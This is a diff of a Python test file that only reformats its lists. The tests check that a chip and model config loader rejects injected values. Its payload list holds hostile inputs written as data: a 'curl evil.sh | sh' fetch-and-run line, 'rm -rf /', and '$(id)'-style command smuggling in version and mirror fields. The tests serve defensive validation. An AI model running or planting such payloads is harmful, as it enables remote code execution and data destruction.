@@ -13,13 +13,21 @@ from tests.conftest import ROOT
 PAYLOADS = ["1.0\nRUN curl evil.sh | sh", "1.0 && rm -rf /", '1.0"', "$(id)", "`id`", "1.0;id"]
 STACK_PINS = ["python", "torch", "torch_npu", "vllm", "vllm_plugin", "flaggems", "flagscale", "flagtree", "flagcx"]
 CHIP_FIELDS = [
-    ("chips.ascend-a3", ["driver"]), ("chips.ascend-a3", ["soc_version"]), ("chips.ascend-a3", ["chip_code"]),
-    ("chips.ascend-a3", ["sdk", "version"]), ("chips.ascend-a3", ["base", "image"]),
-    ("chips.cpu", ["base", "bootstrap", "mirror"]), ("chips.ascend-a3", ["runtime", "env", "VLLM_USE_V1"]),
+    ("chips.ascend-a3", ["driver"]),
+    ("chips.ascend-a3", ["soc_version"]),
+    ("chips.ascend-a3", ["chip_code"]),
+    ("chips.ascend-a3", ["sdk", "version"]),
+    ("chips.ascend-a3", ["base", "image"]),
+    ("chips.cpu", ["base", "bootstrap", "mirror"]),
+    ("chips.ascend-a3", ["runtime", "env", "VLLM_USE_V1"]),
     ("chips.cpu", ["stack", "packages", "llama.cpp-tools"]),
 ]
-MODEL_FIELDS = [["served_model_name"], ["weights", "mount"], ["weights", "modelscope_id"],
-                ["serve", "engine_args", "max_model_len"]]
+MODEL_FIELDS = [
+    ["served_model_name"],
+    ["weights", "mount"],
+    ["weights", "modelscope_id"],
+    ["serve", "engine_args", "max_model_len"],
+]
 
 
 def load_with(tmp_path, section: str, entry: str, path: list[str], value) -> None:
@@ -66,8 +74,9 @@ def test_env_scripts_are_paths_only(tmp_path):
 
 
 def test_json_engine_arg_is_allowed(tmp_path):
-    load_with(tmp_path, "models", "qwen3-4b", ["serve", "engine_args", "compilation_config"],
-              '{"full_cuda_graph": true}')
+    load_with(
+        tmp_path, "models", "qwen3-4b", ["serve", "engine_args", "compilation_config"], '{"full_cuda_graph": true}'
+    )
 
 
 @pytest.mark.parametrize("mirror", ['http://m/debian"; id; "', "http://m/$(id)", "http://m/a b"])
